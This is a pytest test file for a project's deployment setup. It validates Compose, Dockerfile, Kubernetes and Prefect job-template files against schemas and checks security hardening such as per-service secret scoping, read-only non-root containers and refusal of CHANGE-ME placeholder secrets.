"""deploy/: the compose file against the Compose Specification's JSON schema, the Kubernetes manifests against the
Kubernetes OpenAPI schemas (kubernetes-validate, offline, strict), the Prefect work pool's Job template rendered
by prefect-kubernetes' own code and validated as a Job, and the cross-references between files (services, volumes,
secrets, commands, images) checked against the code they start. The hardening: which secret reaches which
container (compose: traced by value; Kubernetes: per Secret key), non-root pods, network policies evaluated as a
connectivity matrix, the Prefect API auth string on the server and every client, the startup refusal of CHANGE-ME
placeholders (the shell guard run for real), MinIO's per-client policies (the provisioning script run against a
recording `mc`), and the Postgres roles (the init script run on a throwaway PostgreSQL). No container engine or
cluster is needed."""
from __future__ import annotations

import ast
import asyncio
import copy
import functools
import importlib.util
import json
import os
import re
import shutil
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[1]
DEPLOY = ROOT / "deploy"
K8S = DEPLOY / "k8s"
COMPOSE = DEPLOY / "compose.yaml"
SCRIPTS = K8S / "scripts"
K8S_VERSION = "1.32.0"
PLACEHOLDER = "CHANGE-ME"
FIGAN_UID = 10001                       # USER of both Dockerfiles


def _compose() -> dict:
    return yaml.safe_load(COMPOSE.read_text())


def _env_example(path: Path) -> dict[str, str]:
    out = {}
    for line in path.read_text().splitlines():
        line = line.strip()
        if line and not line.startswith("#"):
            k, _, v = line.partition("=")
            out[k.strip()] = v.strip()
    return out


def _interpolate(value, env: dict[str, str]):
    """Compose's ${VAR}, ${VAR:-default}, ${VAR:?error} and $$ (enough of the spec for these files)."""
    if isinstance(value, dict):
        return {k: _interpolate(v, env) for k, v in value.items()}
    if isinstance(value, list):
        return [_interpolate(v, env) for v in value]
    if not isinstance(value, str):
        return value

    def sub(m):
        name, op, arg = m.group(1), m.group(2), m.group(3)
        if name in env and env[name] != "":
            return env[name]
        if op == ":?":
            raise KeyError(f"{name}: {arg}")
        return arg or ""

    return re.sub(r"\$\{([A-Za-z_][A-Za-z0-9_]*)(?:(:-|:\?)([^}]*))?\}", sub, value.replace("$$", "\0")) \
        .replace("\0", "$")


def _python_module_attr(ref: str) -> tuple[Path, str]:
    module, _, attr = ref.partition(":")
    return ROOT / (module.replace(".", "/") + ".py"), attr


def _defines(path: Path, name: str) -> bool:
    tree = ast.parse(path.read_text())
    return any(isinstance(n, (ast.ClassDef, ast.FunctionDef)) and n.name == name for n in tree.body)


# --------------------------------------------------------------------------------------------- compose

def _compose_spec_errors(doc: dict) -> list[str]:
    """The Compose Specification's JSON schema errors of ``doc`` (the schema check-jsonschema ships)."""
    jsonschema = pytest.importorskip("jsonschema")
    vendor = pytest.importorskip("check_jsonschema.builtin_schemas.vendor",
                                 reason="check-jsonschema (which ships the Compose Specification schema) is absent")
    schema = json.loads((Path(vendor.__file__).parent / "compose-spec.json").read_text())
    cls = jsonschema.validators.validator_for(schema)
    return [f"{list(e.path)}: {e.message}" for e in sorted(cls(schema).iter_errors(doc), key=lambda e: list(e.path))]


def test_compose_matches_the_compose_spec_schema():
    errors = _compose_spec_errors(_compose())
    assert not errors, "\n".join(errors)
    # the schema is strict enough to catch a typo in a condition
    bad = {"services": {"a": {"image": "x", "depends_on": {"b": {"condition": "service_helthy"}}}}}
    assert _compose_spec_errors(bad)


def test_compose_published_ports_are_settable_and_mlflow_answers_on_them():
    """A host where 5000/4200/3000 are taken publishes elsewhere (FIGAN_*_PORT in deploy/.env); MLflow's
    allowed-hosts check must then accept the Host header a client on the host sends (127.0.0.1:<port>)."""
    env = {**_env_example(DEPLOY / "env.example"), "FIGAN_MLFLOW_PORT": "15000", "FIGAN_PREFECT_PORT": "14200",
           "FIGAN_SERVICE_PORT": "13000", "FIGAN_MINIO_CONSOLE_PORT": "19001"}
    services = _interpolate(_compose(), env)["services"]
    assert services["mlflow"]["ports"] == ["127.0.0.1:15000:5000"]
    assert services["prefect-server"]["ports"] == ["127.0.0.1:14200:4200"]
    assert services["service"]["ports"] == ["127.0.0.1:13000:3000"]
    assert services["minio"]["ports"] == ["127.0.0.1:19001:9001"]
    allowed = services["mlflow"]["environment"]["MLFLOW_SERVER_ALLOWED_HOSTS"].split(",")
    assert {"127.0.0.1:15000", "localhost:15000", "mlflow:5000"} <= set(allowed), allowed
    assert services["prefect-server"]["environment"]["PREFECT_UI_API_URL"] == "http://localhost:14200/api"
    # unset: the documented defaults
    services = _interpolate(_compose(), _env_example(DEPLOY / "env.example"))["services"]
    assert services["mlflow"]["ports"] == ["127.0.0.1:5000:5000"] and services["service"]["ports"] == ["127.0.0.1:3000:3000"]


def test_compose_figan_containers_run_read_only():
    """As the Kubernetes pods: the FIGAN images' containers get a read-only root filesystem and write only to their
    volume and a /tmp tmpfs, which is also HOME (and the Prefect server's PREFECT_HOME: its state is in Postgres)."""
    services = _interpolate(_compose(), _env_example(DEPLOY / "env.example"))["services"]
    figan = {n for n, s in services.items() if str(s.get("image", "")).startswith(("figan-worker:", "figan-service:"))}
    assert figan == {"mlflow", "prefect-server", "prefect-worker", "worker", "service"}
    for name in figan:
        svc = services[name]
        assert svc["read_only"] is True and "/tmp" in svc["tmpfs"], name
        assert svc["cap_drop"] == ["ALL"] and "no-new-privileges:true" in svc["security_opt"], name
        env = svc["environment"]
        assert env["HOME"] == "/tmp", name
        writes = [v for k, v in env.items() if k in ("PREFECT_HOME", "FIGAN_HOME", "BENTOML_HOME", "FIGAN_SERVICE_CACHE")]
        mounted = [v.split(":")[1] for v in svc.get("volumes", []) if not v.startswith(".")]
        for path in writes:
            assert path.startswith("/tmp/") or any(path == m or path.startswith(m + "/") for m in mounted), \
                (name, path, mounted)


SMOKE_OVERRIDE = DEPLOY / "compose.smoke.yaml"


class _MergeTagLoader(yaml.SafeLoader):
    """YAML with the Compose Specification's merge tags: ``!reset`` (drop the base's value) and ``!override``
    (replace instead of merge), read as ("!reset", value) / ("!override", value) so a test can see which is which."""


for _tag in ("!reset", "!override"):
    _MergeTagLoader.add_constructor(_tag, lambda loader, node, tag=_tag: (
        tag, loader.construct_sequence(node) if isinstance(node, yaml.SequenceNode) else
        loader.construct_mapping(node, deep=True) if isinstance(node, yaml.MappingNode) else loader.construct_scalar(node)))


def _smoke_override(tags: bool = False) -> dict:
    """deploy/compose.smoke.yaml; with ``tags`` the merge tags stay visible, else each becomes its value (what the
    schema validates, as `docker compose config` does)."""
    def strip(v):
        if isinstance(v, tuple) and len(v) == 2 and v[0] in ("!reset", "!override"):
            return strip(v[1])
        if isinstance(v, dict):
            return {k: strip(x) for k, x in v.items()}
        return [strip(x) for x in v] if isinstance(v, list) else v
    doc = yaml.load(SMOKE_OVERRIDE.read_text(), Loader=_MergeTagLoader)       # noqa: S506 — SafeLoader subclass
    return doc if tags else strip(doc)


def test_smoke_override_matches_the_compose_spec_schema():
    errors = _compose_spec_errors(_smoke_override())
    assert not errors, "\n".join(errors)
    # podman-compose appends lists it merges: a replaced health check must say !override, or the S3 stand-in
    # would run MinIO's `mc ready local` first and never be healthy
    assert _smoke_override(tags=True)["services"]["minio"]["healthcheck"][0] == "!override"


def test_smoke_override_replaces_only_what_a_registry_would_supply():
    """deploy/compose.smoke.yaml (scripts/compose_smoke.py) overrides services compose.yaml has (a misspelt name
    would start an extra container beside the real one), builds and mounts files that exist, keeps MinIO's service
    name and port for the S3 stand-in (every client says http://minio:9000), keeps the CHANGE-ME guard in front of
    what it replaces, and names explain configs the flow accepts."""
    from models.explain import ExplainConfig

    base, smoke = _compose()["services"], _smoke_override()["services"]
    assert set(smoke) <= set(base), set(smoke) - set(base)
    assert {"postgres", "minio", "minio-init"} <= set(smoke)
    for name, svc in smoke.items():
        if "build" in svc:
            context = DEPLOY / svc["build"]["context"]
            assert (context / svc["build"]["dockerfile"]).is_file(), name
            assert svc["image"].startswith("localhost/"), f"{name}: a stand-in must never be pulled"
        for v in svc.get("volumes", []):
            src = v.split(":")[0]
            assert not src.startswith(".") or (DEPLOY / src).exists(), f"{name} mounts missing {src}"
    # Postgres: the base's guard → docker-entrypoint.sh contract, met by the stand-in's own entrypoint script
    assert "entrypoint" not in smoke["postgres"] and base["postgres"]["entrypoint"][-1] == "docker-entrypoint.sh"
    containerfile = (DEPLOY / "smoke" / "Containerfile.postgres").read_text()
    assert "/usr/local/bin/docker-entrypoint.sh" in containerfile and (DEPLOY / "smoke" / "docker-entrypoint.sh").is_file()
    assert "/var/lib/postgresql/data" in base["postgres"]["volumes"][0] and "PGDATA=/var/lib/postgresql/data" in containerfile
    # the S3 stand-in and the bucket job: guarded like the MinIO ones they replace
    guard = lambda svc: svc["entrypoint"][2:svc["entrypoint"].index("--")]      # noqa: E731
    assert guard(smoke["minio"]) == guard(base["minio"])
    assert guard(smoke["minio-init"]) == guard(base["minio-init"])
    assert smoke["minio"]["command"][-2:] == ["-p", "9000"] and smoke["minio-init"]["image"] == smoke["minio"]["image"]
    # the explain configs compose_smoke.py hands the worker and the prefect-worker (FIGAN_EXPLAIN_CONFIG: part of the
    # key the one computes, what the other's flow runs train with) exist in the folder both mount, and parse
    mounts = {name: [v for v in smoke[name]["volumes"] if v.startswith("./smoke/explain:")]
              for name in ("worker", "prefect-worker")}
    assert mounts["worker"] == mounts["prefect-worker"] and len(mounts["worker"]) == 1, mounts
    mount = mounts["worker"][0]
    host_dir, container_dir = mount.split(":")[:2]
    script = (ROOT / "scripts" / "compose_smoke.py").read_text()
    named = set(re.findall(re.escape(container_dir) + r"/([\w.-]+\.yaml)", script))
    assert named == {p.name for p in (DEPLOY / host_dir).glob("*.yaml")}, named
    for name in named:
        ExplainConfig.from_dict(yaml.safe_load((DEPLOY / host_dir / name).read_text()))


def test_compose_references_and_health():
    c = _compose()
    services, volumes = c["services"], set(c["volumes"])
    assert {"postgres", "minio", "minio-init", "mlflow", "prefect-server", "prefect-worker", "worker",
            "service"} <= set(services)
    used_volumes = set()
    for name, s in services.items():
        for dep, cond in (s.get("depends_on") or {}).items():
            assert dep in services, f"{name} depends on unknown service {dep}"
            want = "service_completed_successfully" if dep == "minio-init" else "service_healthy"
            assert cond["condition"] == want, (name, dep, cond)
            assert "healthcheck" in services[dep] or dep == "minio-init", f"{dep} has no healthcheck"
        if name != "minio-init":
            assert s.get("healthcheck", {}).get("test"), f"{name} has no healthcheck"
            assert s.get("restart") == "unless-stopped", name
        for v in s.get("volumes", []):
            src = v.split(":")[0]
            if not src.startswith("."):
                used_volumes.add(src)
            else:
                assert (DEPLOY / src).is_file(), f"{name} mounts missing {src}"
        for p in s.get("ports", []):
            assert str(p).startswith("127.0.0.1:"), f"{name} publishes {p} beyond loopback"
        if "build" in s:
            assert (DEPLOY / s["build"]["context"] / s["build"]["dockerfile"]).is_file()
    assert used_volumes == volumes, (used_volumes, volumes)
    assert services["minio-init"]["restart"] == "no"


def test_compose_secrets_come_from_env_file():
    text = COMPOSE.read_text()
    example = _env_example(DEPLOY / "env.example")
    required = set(re.findall(r"\$\{([A-Z0-9_]+):\?", text))
    assert required and required <= set(example), required - set(example)
    for k in required:
        assert PLACEHOLDER in example[k] or k == "MINIO_ROOT_USER", f"{k} has a real value"
    assert "deploy/.env" in text and ".env" in (DEPLOY / ".gitignore").read_text().split()
    # with the example's values every ${...} resolves, and the URLs the services are handed are well formed
    c = _interpolate(_compose(), example)
    ml = c["services"]["mlflow"]["environment"]
    assert re.fullmatch(r"postgresql\+psycopg2://mlflow:CHANGE-ME@postgres:5432/mlflow", ml["MLFLOW_BACKEND_STORE_URI"])
    assert ml["MLFLOW_S3_ENDPOINT_URL"] == "http://minio:9000"
    assert ml["MLFLOW_WEBHOOK_ALLOWED_SCHEMES"] == "http,https" and ml["MLFLOW_WEBHOOK_ALLOW_PRIVATE_IPS"] == "true"
    assert ml["MLFLOW_WEBHOOK_SECRET_ENCRYPTION_KEY"] == "CHANGE-ME"
    assert "s3://figan/mlflow" in c["services"]["mlflow"]["command"]
    assert "mlflow:5000" in ml["MLFLOW_SERVER_ALLOWED_HOSTS"].split(",")
    pf = c["services"]["prefect-server"]["environment"]
    assert pf["PREFECT_API_DATABASE_CONNECTION_URL"] == "postgresql+asyncpg://prefect:CHANGE-ME@postgres:5432/prefect"
    w = c["services"]["worker"]["environment"]
    assert w["FIGAN_TRACKING_URI"] == "http://mlflow:5000" and w["FIGAN_DVC_REMOTE"] == "s3://figan/dvc"
    assert w["PREFECT_API_URL"] == "http://prefect-server:4200/api"
    pw = c["services"]["prefect-worker"]["environment"]
    assert pw["AWS_ENDPOINT_URL"] == "http://minio:9000" and pw["PREFECT_API_URL"] == w["PREFECT_API_URL"]
    assert w["FIGAN_RECEIVER_HOST"] == "0.0.0.0" and w["FIGAN_RECEIVER_PORT"] == "5081"
    assert "5081" in w["FIGAN_RECEIVER_URL"] and "5081/health" in " ".join(c["services"]["worker"]["healthcheck"]["test"])
    init = c["services"]["minio-init"]
    assert init["image"] == c["services"]["minio"]["image"]              # its mc: no other image to pull
    assert init["entrypoint"][-2:] == ["sh", "/etc/figan/minio-provision.sh"]


def test_compose_commands_exist_in_the_code():
    """The commands the containers run name a real CLI subcommand and a real BentoML service class."""
    from flows.cli import build_parser

    c = _compose()
    sub = next(a for a in build_parser()._actions if a.dest == "cmd")
    assert c["services"]["worker"]["command"] == ["figan", "worker"] and "worker" in sub.choices
    pw = c["services"]["prefect-worker"]
    args = sub.choices["prefect-worker"].parse_args(pw["command"][2:])
    assert pw["command"][:2] == ["figan", "prefect-worker"] and args.healthcheck      # serves the /health checked
    assert f"127.0.0.1:{pw['environment']['PREFECT_WORKER_WEBSERVER_PORT']}/health" in " ".join(pw["healthcheck"]["test"])
    svc = c["services"]["service"]["command"]
    assert svc[:2] == ["bentoml", "serve"]
    path, cls = _python_module_attr(svc[2])
    assert path.is_file() and _defines(path, cls), svc[2]
    sql = (DEPLOY / "postgres" / "init-databases.sql").read_text()
    assert sql.count("CREATE DATABASE prefect OWNER prefect") == 1 and sql.count("CREATE DATABASE mlflow OWNER mlflow") == 1


# the deploy secrets and who may hold each (compose: every service that gets the value, under any variable name)
COMPOSE_SECRET_HOLDERS = {
    "POSTGRES_PASSWORD": {"postgres"},
    "MLFLOW_DB_PASSWORD": {"postgres", "mlflow"},
    "PREFECT_DB_PASSWORD": {"postgres", "prefect-server"},
    "MINIO_ROOT_PASSWORD": {"minio", "minio-init"},
    "MLFLOW_S3_SECRET_KEY": {"minio-init", "mlflow"},
    "WORKER_S3_SECRET_KEY": {"minio-init", "prefect-worker"},         # DVC in the flow runs; the worker reads none
    "PREFECT_API_AUTH_STRING": {"prefect-server", "worker", "prefect-worker"},
    "MLFLOW_WEBHOOK_SECRET_ENCRYPTION_KEY": {"mlflow"},
    "FIGAN_SERVICE_API_KEY": {"service"},
    "FIGAN_AUDIT_KEY": {"prefect-worker", "service"},                 # the flow runs sign, the service checks
}


def _compose_with_traceable_secrets() -> tuple[dict, dict[str, str]]:
    """The compose file interpolated with a distinct marker value per secret, so a secret can be followed into any
    service whatever variable carries it."""
    marks = {k: f"{PLACEHOLDER}-{k.lower()}" for k in COMPOSE_SECRET_HOLDERS}
    env = {**_env_example(DEPLOY / "env.example"), **marks}
    return _interpolate(_compose(), env), marks


def _service_env(service: dict) -> dict[str, str]:
    return {k: str(v) for k, v in (service.get("environment") or {}).items()}


def test_compose_each_service_gets_only_its_own_secrets():
    """Traced by value: MinIO's root user never reaches MLflow or the worker (they get their own MinIO users), the
    superuser password only Postgres, each database password only Postgres and its one client."""
    c, marks = _compose_with_traceable_secrets()
    assert set(COMPOSE_SECRET_HOLDERS) <= set(_env_example(DEPLOY / "env.example"))
    for secret, mark in marks.items():
        holders = {name for name, svc in c["services"].items() if mark in json.dumps(svc)}
        assert holders == COMPOSE_SECRET_HOLDERS[secret], (secret, holders)
    for name in ("worker", "prefect-worker", "mlflow"):
        env = _service_env(c["services"][name])
        assert not any(k.startswith("MINIO_ROOT") for k in env), name
        assert marks["MINIO_ROOT_PASSWORD"] not in json.dumps(env), name
    assert not any(k.startswith("AWS_") for k in _service_env(c["services"]["worker"]))     # no S3 at all
    assert c["services"]["prefect-worker"]["environment"]["AWS_ACCESS_KEY_ID"] != \
        c["services"]["mlflow"]["environment"]["AWS_ACCESS_KEY_ID"] != c["services"]["minio"]["environment"]["MINIO_ROOT_USER"]


def test_compose_every_service_refuses_placeholders():
    """Every secret a service gets is checked before it starts: third-party commands behind the shell guard, which
    lists every variable carrying a secret; the FIGAN worker and service by flows.settings (the variables carry the
    prefixes it checks)."""
    from flows.settings import CHECKED_ENV_PREFIXES

    c, marks = _compose_with_traceable_secrets()
    for name, svc in c["services"].items():
        carrying = {k for k, v in _service_env(svc).items() if any(m in v for m in marks.values())}
        start = (svc.get("entrypoint") or []) + (svc.get("command") or [])
        if name in ("worker", "prefect-worker", "service"):
            assert carrying and all(k.startswith(CHECKED_ENV_PREFIXES) for k in carrying), (name, carrying)
            continue
        assert start[:2] == ["sh", "/etc/figan/refuse-placeholders.sh"], (name, start)
        guarded = set(start[2:start.index("--")])
        assert carrying <= guarded <= set(svc["environment"]), (name, carrying, guarded)
        assert "./k8s/scripts/refuse-placeholders.sh:/etc/figan/refuse-placeholders.sh:ro" in svc["volumes"], name


def test_compose_prefect_api_needs_the_auth_string():
    c, marks = _compose_with_traceable_secrets()
    mark = marks["PREFECT_API_AUTH_STRING"]
    assert c["services"]["prefect-server"]["environment"]["PREFECT_SERVER_API_AUTH_STRING"] == mark
    clients = {n for n, svc in c["services"].items() if "PREFECT_API_URL" in (svc.get("environment") or {})}
    assert clients == {"worker", "prefect-worker"}
    for n in clients:
        assert c["services"][n]["environment"]["PREFECT_API_AUTH_STRING"] == mark


def test_compose_worker_submits_to_the_deployment_the_prefect_worker_serves(environ):
    """The worker submits flow runs of FIGAN_EXPLAIN_DEPLOYMENT; the prefect-worker registers that deployment on its
    pool at start and is healthy only once its `prefect worker` polls the pool, and the worker starts after it. Both
    compute an explanation's key (explain config, device) and open one data store with one DVC remote, so they read
    the same values and share the volume; the worker no longer explains, so it gets no thread or concurrency knob."""
    from flows.settings import Settings

    services = _interpolate(_compose(), _env_example(DEPLOY / "env.example"))["services"]
    w, pw = services["worker"], services["prefect-worker"]
    assert w["depends_on"]["prefect-worker"] == {"condition": "service_healthy"}
    same = ("FIGAN_HOME", "FIGAN_TRACKING_URI", "FIGAN_DVC_REMOTE", "FIGAN_DEVICE", "FIGAN_EXPLAIN_CONFIG",
            "FIGAN_EXPLAIN_DEPLOYMENT", "FIGAN_WORK_POOL", "FIGAN_HEARTBEAT_SECONDS", "PREFECT_API_URL")
    assert {k: w["environment"][k] for k in same} == {k: pw["environment"][k] for k in same}
    environ({k: pw["environment"][k] for k in ("FIGAN_EXPLAIN_DEPLOYMENT", "FIGAN_WORK_POOL")})
    s = Settings.load()
    assert (s.explain_deployment, s.work_pool) == ("explain-model-version/figan", "figan")
    assert [v for v in w["volumes"] if v.endswith(":/data")] == [v for v in pw["volumes"] if v.endswith(":/data")]
    assert not {"FIGAN_MAX_CONCURRENT", "OMP_NUM_THREADS"} & set(w["environment"])
    assert {"FIGAN_MAX_CONCURRENT", "OMP_NUM_THREADS"} <= set(pw["environment"])


# --------------------------------------------------------------------------------------------- Dockerfiles

def _dockerfile(name: str) -> list[tuple[str, str]]:
    text = (DEPLOY / name).read_text().replace("\\\n", " ")
    out = []
    for line in text.splitlines():
        line = line.strip()
        if line and not line.startswith("#"):
            op, _, rest = line.partition(" ")
            out.append((op.upper(), rest.strip()))
    return out


@pytest.mark.parametrize("name", ["Dockerfile.worker", "Dockerfile.service"])
def test_dockerfile_install_order_user_health(name):
    ins = _dockerfile(name)
    ops = [op for op, _ in ins]
    args = {op: rest for op, rest in ins}
    assert ins[0] == ("ARG", "BASE_IMAGE=python:3.11-slim-bookworm") and ins[1] == ("FROM", "${BASE_IMAGE}")
    runs = [rest for op, rest in ins if op == "RUN"]
    i_torch = next(i for i, r in enumerate(runs) if "torch==${TORCH_VERSION}" in r)
    i_lock = next(i for i, r in enumerate(runs) if "-r /tmp/req/requirements.lock" in r)
    i_proj = next(i for i, r in enumerate(runs) if "--no-deps" in r and " -e ." in r)
    assert i_torch < i_lock < i_proj
    assert "--index-url \"${TORCH_INDEX_URL}\"" in runs[i_torch] and "pip check" in runs[i_lock]
    assert ("ARG", "TORCH_VERSION=2.13.0") in ins and ("ARG", "TORCH_INDEX_URL=https://download.pytorch.org/whl/cpu") in ins
    assert re.fullmatch(r"\d+:\d+", args["USER"]) and not args["USER"].startswith("0:")
    assert ops.index("USER") < ops.index("HEALTHCHECK") < ops.index("CMD")
    assert "CMD" in args["HEALTHCHECK"]
    # COPY sources exist and survive .dockerignore
    ignore = [ln.strip() for ln in (ROOT / ".dockerignore").read_text().splitlines()]
    for op, rest in ins:
        if op == "COPY":
            for src in rest.split()[:-1]:
                assert (ROOT / src).exists(), src
                assert f"!{src}" in ignore or f"!{src}/**" in ignore, f"{src} is excluded by .dockerignore"
    cmd = json.loads(args["CMD"])
    compose = _compose()["services"]["worker" if "worker" in name else "service"]["command"]
    assert cmd == compose


def test_dockerignore_keeps_the_context_small():
    ignore = [ln.strip() for ln in (ROOT / ".dockerignore").read_text().splitlines()
              if ln.strip() and not ln.strip().startswith("#")]
    assert ignore[0] == "**"                                                 # deny by default, then allow
    for never in (".venv", "runs", "data", ".git", "deploy/.env"):
        assert f"!{never}" not in ignore and f"!{never}/**" not in ignore


def test_team_drivers_are_in_the_one_lock_the_images_install():
    lock = {re.sub(r"[-_.]+", "-", line.split("==")[0]).lower()
            for line in (ROOT / "requirements.lock").read_text().splitlines() if "==" in line}
    for driver in ("dvc-s3", "psycopg2-binary", "prefect-dask", "prefect-kubernetes", "boto3"):
        assert driver in lock, driver
    for dockerfile in ("Dockerfile.worker", "Dockerfile.service"):
        assert "pip install -r /tmp/req/requirements.lock" in (DEPLOY / dockerfile).read_text()


# --------------------------------------------------------------------------------------------- Kubernetes
# (the readers are cached: the files do not change during a run, and no caller mutates what they return)

@functools.cache
def _kustomization() -> dict:
    return yaml.safe_load((K8S / "kustomization.yaml").read_text())


@functools.cache
def _k8s_docs() -> list[tuple[str, dict]]:
    docs = []
    for f in _kustomization()["resources"]:
        for d in yaml.safe_load_all((K8S / f).read_text()):
            if d:
                docs.append((f, d))
    return docs


def _by_name() -> dict[tuple[str, str], dict]:
    return {(d["kind"], d["metadata"]["name"]): d for _, d in _k8s_docs()}


def _pod_specs(doc: dict) -> list[dict]:
    spec = doc.get("spec", {})
    if doc["kind"] in ("Deployment", "StatefulSet", "Job"):
        return [spec["template"]["spec"]]
    return []


def _containers(doc: dict) -> list[dict]:
    return [c for p in _pod_specs(doc) for c in p.get("containers", [])]


@functools.cache
def _secret_keys() -> dict[str, set[str]]:
    """Secret name → its keys: the kustomization's secretGenerator, each from the example of its env file."""
    out = {}
    for g in _kustomization()["secretGenerator"]:
        (env,) = g["envs"]
        out[g["name"]] = set(_env_example(K8S / f"{env}.example"))
    return out


@functools.cache
def _config_map_keys() -> dict[str, set[str]]:
    return {d["metadata"]["name"]: set(d["data"]) for _, d in _k8s_docs() if d["kind"] == "ConfigMap"}


def _env_sources(container: dict) -> dict[str, tuple]:
    """Each environment variable of a container → ("secret", name, key), ("config", name, key) or ("value", v)."""
    secrets, config_maps = _secret_keys(), _config_map_keys()
    out: dict[str, tuple] = {}
    for e in container.get("envFrom", []):
        if "secretRef" in e:
            name = e["secretRef"]["name"]
            out.update({k: ("secret", name, k) for k in secrets[name]})
        if "configMapRef" in e:
            name = e["configMapRef"]["name"]
            out.update({k: ("config", name, k) for k in config_maps[name]})
    for e in container.get("env", []):
        ref = e.get("valueFrom", {})
        if "secretKeyRef" in ref:
            out[e["name"]] = ("secret", ref["secretKeyRef"]["name"], ref["secretKeyRef"]["key"])
        elif "configMapKeyRef" in ref:
            out[e["name"]] = ("config", ref["configMapKeyRef"]["name"], ref["configMapKeyRef"]["key"])
        else:
            out[e["name"]] = ("value", e.get("value"))
    return out


# --------------------------------------------------------------------------------------------- Prefect work pool

def _template() -> dict:
    return json.loads((K8S / "prefect" / "base-job-template.json").read_text())


FLOW_RUN_ID, FLOW_ID = uuid.UUID(int=1), uuid.UUID(int=2)


def _explanation_job(values: dict | None = None, auth_string: str = "figan:s3cr3t") -> dict:
    """The Job the Prefect Kubernetes worker creates for one flow run, by prefect-kubernetes' own code: the pool's
    template with its defaults and ``values`` as job variables (prefect.utilities.templating), the flow run's
    preparation (environment, labels, command, image), then the replacement of the auth string by a reference to
    the Secret the prefect-worker Deployment names (read through prefect-kubernetes' settings)."""
    from unittest import mock

    from prefect.client.schemas.objects import FlowRun
    from prefect.settings import PREFECT_API_AUTH_STRING, PREFECT_API_URL, temporary_settings
    from prefect.utilities.templating import apply_values
    from prefect_kubernetes.settings import KubernetesSettings
    from prefect_kubernetes.worker import KubernetesWorker, KubernetesWorkerJobConfiguration

    t = _template()
    variables = {k: v["default"] for k, v in t["variables"]["properties"].items() if v.get("default") is not None}
    variables.update(values or {})
    cfg = KubernetesWorkerJobConfiguration(**apply_values(template=copy.deepcopy(t["job_configuration"]),
                                                          values=variables))
    worker = _env_sources(_containers(_by_name()[("Deployment", "prefect-worker")])[0])
    api_url = yaml.safe_load((K8S / "config.yaml").read_text())["data"]["PREFECT_API_URL"]
    with temporary_settings(updates={PREFECT_API_URL: api_url, PREFECT_API_AUTH_STRING: auth_string}):
        cfg.prepare_for_flow_run(FlowRun(id=FLOW_RUN_ID, flow_id=FLOW_ID, name="brave-otter"))
    with mock.patch.dict(os.environ, {k: v[1] for k, v in worker.items()
                                      if k.startswith("PREFECT_INTEGRATIONS_KUBERNETES_") and v[0] == "value"}):
        ks = KubernetesSettings().worker
    asyncio.run(KubernetesWorker._replace_env_variable_with_secret(
        None, "PREFECT_API_AUTH_STRING", cfg, ks.api_auth_string_secret_name, ks.api_auth_string_secret_key))
    manifest = copy.deepcopy(cfg.job_manifest)
    # prefect-kubernetes insists on parallelism/completions in the *pod* spec (its _get_base_job_manifest), where
    # the API server drops them as unknown fields (Job defaults are 1 and 1 anyway); strict validation would not
    pod = manifest["spec"]["template"]["spec"]
    assert (pod.pop("parallelism"), pod.pop("completions")) == (1, 1)
    return manifest


@functools.cache
def _pods() -> list[tuple[str, dict, dict]]:
    """(app.kubernetes.io/name, pod spec, pod labels) of every pod the namespace runs, explanation Jobs included."""
    out = []
    for _, d in _k8s_docs():
        for pod in _pod_specs(d):
            labels = d["spec"]["template"]["metadata"]["labels"]
            out.append((labels["app.kubernetes.io/name"], pod, labels))
    job = _explanation_job()["spec"]["template"]
    out.append((job["metadata"]["labels"]["app.kubernetes.io/name"], job["spec"], job["metadata"]["labels"]))
    return out


# --------------------------------------------------------------------------------------------- manifests

def test_k8s_manifests_validate_against_kubernetes_schemas():
    kv = pytest.importorskip("kubernetes_validate", reason="kubernetes-validate (offline k8s schemas) is absent")
    docs = _k8s_docs()
    assert len(docs) >= 20
    for f, d in docs:
        try:
            kv.validate(copy.deepcopy(d), K8S_VERSION, strict=True)
        except kv.ValidationError as e:
            raise AssertionError(f"{f}: {d['kind']}/{d['metadata']['name']}: {e}") from None
    with pytest.raises(kv.ValidationError):              # strict mode rejects an unknown field
        kv.validate({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "x"},
                     "spec": {"ports": [{"port": 1}], "selectr": {}}}, K8S_VERSION, strict=True)


def test_k8s_cross_references():
    k = _kustomization()
    docs = _k8s_docs()
    for f in k["resources"]:
        assert (K8S / f).is_file(), f
    for g in k["configMapGenerator"]:
        for f in g["files"]:
            assert (K8S / f).is_file(), f
    for g in k["secretGenerator"]:
        (env,) = g["envs"]
        assert env.startswith("secrets/") and env.endswith(".env") and (K8S / f"{env}.example").is_file(), env
    assert "k8s/secrets/*.env" in (DEPLOY / ".gitignore").read_text().split()
    config_maps = set(_config_map_keys()) | {g["name"] for g in k["configMapGenerator"]}
    secrets = _secret_keys()
    pvcs = {d["metadata"]["name"] for _, d in docs if d["kind"] == "PersistentVolumeClaim"}
    sas = {d["metadata"]["name"] for _, d in docs if d["kind"] == "ServiceAccount"}
    images = {i["name"] for i in k["images"]}
    pod_labels = [d["spec"]["template"]["metadata"]["labels"] for _, d in docs if _pod_specs(d)]
    for f, d in docs:
        for pod in _pod_specs(d):
            assert pod.get("serviceAccountName", "default") in sas | {"default"}, (f, pod.get("serviceAccountName"))
            for v in pod.get("volumes", []):
                if "configMap" in v:
                    assert v["configMap"]["name"] in config_maps
                if "persistentVolumeClaim" in v:
                    assert v["persistentVolumeClaim"]["claimName"] in pvcs
        for c in _containers(d):
            assert c["image"].split(":")[0] in images or c["image"].split(":")[0].startswith(("postgres", "minio/"))
            assert "resources" in c and c["resources"]["limits"].get("memory"), (f, c["name"])
            for e in c.get("envFrom", []):
                if "configMapRef" in e:
                    assert e["configMapRef"]["name"] in config_maps
                if "secretRef" in e:
                    assert e["secretRef"]["name"] in secrets
            defined = set()
            for e in c.get("env", []):
                ref = e.get("valueFrom", {}).get("secretKeyRef")
                if ref:
                    assert ref["key"] in secrets.get(ref["name"], ()), (f, ref)
                # $(VAR) is expanded by the kubelet from variables defined before it, else left as is
                for var in re.findall(r"\$\(([A-Za-z_][A-Za-z0-9_]*)\)", e.get("value") or ""):
                    assert var in defined, (f, e["name"], var)
                defined.add(e["name"])
            ports = {p["containerPort"] for p in c.get("ports", [])}
            for probe in ("readinessProbe", "livenessProbe"):
                port = c.get(probe, {}).get("httpGet", {}).get("port")
                assert port is None or port in ports, (f, c["name"], probe)
        if d["kind"] == "Service":
            sel = d["spec"]["selector"]
            assert any(sel.items() <= labels.items() for labels in pod_labels), (f, sel)
    by_name = _by_name()
    worker = _containers(by_name[("Deployment", "figan-worker")])[0]
    assert worker["command"] == ["figan", "worker"]
